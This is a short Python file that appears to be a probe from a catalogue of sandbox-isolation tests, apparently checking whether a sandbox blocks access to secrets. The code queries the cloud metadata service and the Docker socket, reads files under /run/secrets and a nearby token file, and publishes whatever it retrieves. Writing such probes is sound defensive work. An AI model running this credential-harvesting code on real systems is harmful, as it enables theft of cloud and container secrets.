"""The metadata service, the socket of Docker and the folder of secrets are asked for tokens.

catalogue: 43, 46
needs: publish
tiers: namespaces, restricted
falls for it: plain pytest
verdict: nothing found
"""

import glob, socket
for _family, _address in ((socket.AF_INET, ('169.254.169.254', 80)), (socket.AF_UNIX, '/var/run/docker.sock')):
    try:
        with socket.socket(_family) as _socket:
            _socket.settimeout(0.05)
            _socket.connect(_address)
            _socket.sendall(b'GET / HTTP/1.0\r\n\r\n')
            publish(_socket.recv(1 << 16))
    except OSError: pass
for _path in glob.glob('/run/secrets/*') + glob.glob(HIDDEN + '/../token'):
    try:
        with open(_path) as _file: publish(_file.read())
    except OSError: pass
